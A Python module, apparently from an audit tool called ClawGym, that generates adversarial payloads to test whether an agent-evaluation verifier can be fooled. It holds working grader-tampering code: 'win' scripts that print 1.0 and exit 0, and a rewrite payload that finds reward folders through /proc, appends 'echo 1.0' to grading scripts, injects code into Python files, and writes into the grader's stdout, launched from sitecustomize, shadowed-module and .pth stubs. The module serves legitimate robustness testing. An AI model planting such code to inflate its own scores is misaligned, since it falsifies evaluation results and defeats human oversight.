"""The code the audit's adversaries leave in a workspace, hoping a verifier runs it at grading time.

Two kinds, both plain text written by the agent through the harness's own tools:

* a **win** payload ends the process that runs it at once: it prints a last line ``1.0`` and exits 0
  (what a check that trusts an exit status, or reads the last line of its pipeline, would take for
  success). Python (:func:`win_py`), shell (:data:`WIN_SH`) and ``.pth`` (:data:`WIN_PTH`) forms;
* a **rewrite** payload (:func:`rewrite_py`, kept at :data:`REWRITE_FILE` in the workspace) is
  transparent — it never changes its host process's output or exit status — and only tries to reach
  the verifier: it appends ``echo 1.0`` to every ``*.sh`` under a reachable ``reward/`` folder (bash
  reads its script as it runs), puts a win payload at the top of every ``*.py`` there, writes ``1.0``
  into every other file there, and writes ``1.0`` into the outermost ancestor's stdout (the channel
  the grader reads). It finds ``reward/`` folders from its ancestors' command lines and current folders
  and a few well-known places. Stubs run it (:func:`rewrite_stub`, :func:`shadow_stub`,
  :func:`rewrite_prefix`).

Every payload that runs writes a ``clawgym-audit: ...`` line to stderr, which the audit quotes as
evidence when it shows up in the verifier's logs. Invariant: payloads only ever run inside sandboxes
(the agent's or the grader's); nothing in this package executes them on the host.
"""

from __future__ import annotations

import ast

AUDIT_DIR = ".clawgym_audit"
"""The workspace folder where an adversary keeps its payload files."""
REWRITE_FILE = f"{AUDIT_DIR}/rewrite.py"
EVIDENCE_PREFIX = "clawgym-audit:"
MARK = "clawgym-audit-rewritten"


def win_py(label: str) -> str:
    """Python that reports ``label`` on stderr, prints ``1.0`` and exits 0 at once (``os._exit``)."""
    return ("import os as _cg_os, sys as _cg_sys\n"
            f"_cg_sys.stderr.write({EVIDENCE_PREFIX + ' hit ' + label!r} + '\\n')\n"
            "_cg_sys.stdout.write('1.0\\n')\n"
            "_cg_sys.stdout.flush()\n"
            "_cg_os._exit(0)\n")


WIN_PY_NAMED = ("import os as _cg_os, sys as _cg_sys\n"
                f"_cg_sys.stderr.write('{EVIDENCE_PREFIX} hit module %s (%s)\\n' % (__name__, __file__))\n"
                "_cg_sys.stdout.write('1.0\\n')\n"
                "_cg_sys.stdout.flush()\n"
                "_cg_os._exit(0)\n")
"""A win payload for a file copied under many names (a shadowed module): it names itself."""

WIN_SH = ("#!/bin/sh\n"
          f"echo \"{EVIDENCE_PREFIX} hit executable $0\" >&2\n"
          "echo 1.0\n"
          "exit 0\n")
"""A win payload as an executable (a planted ``python3``, ``bash``, ``cat``... or an agent's ``.sh``)."""

WIN_PTH = ("import os, sys; sys.stderr.write('" + EVIDENCE_PREFIX + " hit .pth\\n'); sys.stdout.write('1.0\\n'); "
           "sys.stdout.flush(); os._exit(0)\n")
"""A ``.pth`` line (``site`` executes lines that start with ``import``)."""

_REWRITE = r'''"""ClawGym audit adversary (transparent): rewrite what it can reach of the verifier, then return."""
import os
import sys

MOUNT = __MOUNT__
WIN = "import os as _o, sys as _s\n_s.stdout.write('1.0\\n'); _s.stdout.flush(); _o._exit(0)\n"
PLACES = ("/", "/tmp", "/run", "/opt", "/srv", "/var/lib", "/home", "/root", "/grader", "/verifier", "/tests")


def _ancestors():
    out, pid = [], os.getpid()
    for _ in range(32):
        try:
            with open("/proc/%d/stat" % pid) as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if ppid <= 1 or ppid == pid:
            break
        out.append(ppid)
        pid = ppid
    return out


def _reward_dirs(pids):
    found = set()
    for pid in [os.getpid()] + pids:
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            args = []
        for raw in args:
            arg = raw.decode("utf-8", "replace")
            if arg.startswith("/") and os.path.isfile(arg):
                folder = os.path.dirname(arg)
                if os.path.basename(folder) == "reward" or os.path.isfile(os.path.join(folder, "reward.sh")):
                    found.add(folder)
        try:
            cwd = os.readlink("/proc/%d/cwd" % pid)
            if os.path.isdir(os.path.join(cwd, "reward")):
                found.add(os.path.join(cwd, "reward"))
        except OSError:
            pass
    for base in (os.getcwd(), MOUNT) + PLACES:
        if os.path.isdir(os.path.join(base, "reward")):
            found.add(os.path.join(base, "reward"))
    return sorted(found)


def _rewrite(path):
    name = os.path.basename(path)
    try:  # a read-only file of ours is ours to make writable again
        st = os.stat(path)
        if st.st_uid == os.getuid() and not st.st_mode & 0o200:
            os.chmod(path, st.st_mode | 0o200)
    except OSError:
        pass
    if name.endswith(".sh"):
        with open(path, "a") as f:
            f.write("\necho 1.0\n")
        return True
    if name.endswith(".py"):
        with open(path) as f:
            src = f.read(1 << 20)
        if __MARK__ in src:
            return False
        with open(path, "w") as f:
            f.write("# " + __MARK__ + "\n" + WIN + src)
        return True
    with open(path, "w") as f:
        f.write("1.0\n")
    return True


def run(entry):
    pids = _ancestors()
    for folder in _reward_dirs(pids):
        for root, _dirs, files in os.walk(folder):
            for name in files:
                path = os.path.join(root, name)
                try:
                    if _rewrite(path):
                        sys.stderr.write("__PREFIX__ %s rewrote %s\n" % (entry, path))
                except (OSError, UnicodeDecodeError):
                    pass
    if pids:
        try:
            with open("/proc/%d/fd/1" % pids[-1], "a") as f:
                f.write("1.0\n")
        except OSError:
            pass


try:
    run(globals().get("ENTRY") or (sys.argv[1] if len(sys.argv) > 1 else "?"))
except Exception:
    pass
'''


def rewrite_py(mount_dir: str) -> str:
    """The transparent rewrite payload (a whole module), for a workspace mounted at ``mount_dir``."""
    return (_REWRITE.replace("__MOUNT__", repr(mount_dir)).replace("__MARK__", repr(MARK))
            .replace("__PREFIX__", EVIDENCE_PREFIX))


def _locate_and_run(mount_dir: str, entry_expr: str) -> str:
    """Python lines that find :data:`REWRITE_FILE` (under ``mount_dir``, else above this file) and run it."""
    return (
        "def _cg_rewrite():\n"
        "    import os\n"
        f"    places = [{mount_dir!r}]\n"
        "    here = os.path.dirname(os.path.abspath(globals().get('__file__') or '.'))\n"
        "    for _ in range(8):\n"
        "        places.append(here)\n"
        "        here = os.path.dirname(here)\n"
        "    for base in places:\n"
        f"        path = os.path.join(base, {AUDIT_DIR!r}, 'rewrite.py')\n"
        "        if os.path.isfile(path):\n"
        "            with open(path) as f:\n"
        "                code = compile(f.read(), path, 'exec')\n"
        f"            exec(code, {{'__name__': '_clawgym_audit', 'ENTRY': {entry_expr}}})\n"
        "            return\n"
        "try:\n"
        "    _cg_rewrite()\n"
        "except Exception:\n"
        "    pass\n"
        "del _cg_rewrite\n")


def rewrite_stub(mount_dir: str, label: str) -> str:
    """A module that only runs the rewrite payload (a transparent ``sitecustomize``/``usercustomize``)."""
    return _locate_and_run(mount_dir, repr(label))


def shadow_stub(mount_dir: str) -> str:
    """A transparent module named like a standard one: runs the rewrite payload, then becomes the real
    module (imported with its own folder left out of ``sys.path``), so the importer sees no difference."""
    return _locate_and_run(mount_dir, "'module ' + __name__") + (
        "import sys as _cg_sys\n"
        "import os as _cg_os\n"
        "def _cg_real(name):\n"
        "    here = _cg_os.path.dirname(_cg_os.path.realpath(__file__))\n"
        "    saved = list(_cg_sys.path)\n"
        "    try:\n"
        "        _cg_sys.path[:] = [p for p in saved if _cg_os.path.realpath(p or '.') != here]\n"
        "        _cg_sys.modules.pop(name, None)\n"
        "        import importlib\n"
        "        return importlib.import_module(name)\n"
        "    finally:\n"
        "        _cg_sys.path[:] = saved\n"
        "_cg_sys.modules[__name__] = _cg_real(__name__)\n")


def rewrite_pth(mount_dir: str) -> str:
    """A transparent ``.pth`` line that runs the rewrite payload."""
    path = f"{mount_dir.rstrip('/')}/{REWRITE_FILE}"
    return (f"import os; p = {path!r}; os.path.isfile(p) and exec(compile(open(p).read(), p, 'exec'), "
            "{'__name__': '_clawgym_audit', 'ENTRY': '.pth'})\n")


def rewrite_prefix(mount_dir: str, rel: str) -> str:
    """Lines to put at the top of the agent's module ``rel`` so that running it runs the rewrite payload."""
    if rel.endswith(".sh"):
        path = f"{mount_dir.rstrip('/')}/{REWRITE_FILE}"
        return f"python3 -I {path!r} 'script {rel}' >/dev/null 2>&1 || true\n"
    return _locate_and_run(mount_dir, repr(f"module {rel}"))


def insert_prefix(source: str, prefix: str, *, python: bool) -> str:
    """``source`` with ``prefix`` inserted where code may start: after a ``#!`` line and an encoding
    line, and for Python after the module docstring and ``from __future__`` imports (which must come
    first). Unparsable Python gets the prefix after its leading comment lines."""
    lines = source.splitlines(keepends=True)
    head = 0
    while head < len(lines) and head < 2 and (lines[head].startswith("#!")
                                               or (lines[head].startswith("#") and "coding" in lines[head][:40])):
        head += 1
    if python:
        try:
            tree = ast.parse(source)
        except (SyntaxError, ValueError):
            tree = None
        if tree is not None:
            for i, node in enumerate(tree.body):
                docstring = (i == 0 and isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant)
                             and isinstance(node.value.value, str))
                future = isinstance(node, ast.ImportFrom) and node.module == "__future__"
                if not (docstring or future):
                    break
                head = max(head, node.end_lineno or head)
    if head and not lines[head - 1].endswith("\n"):
        lines[head - 1] += "\n"
    return "".join(lines[:head]) + prefix + "".join(lines[head:])
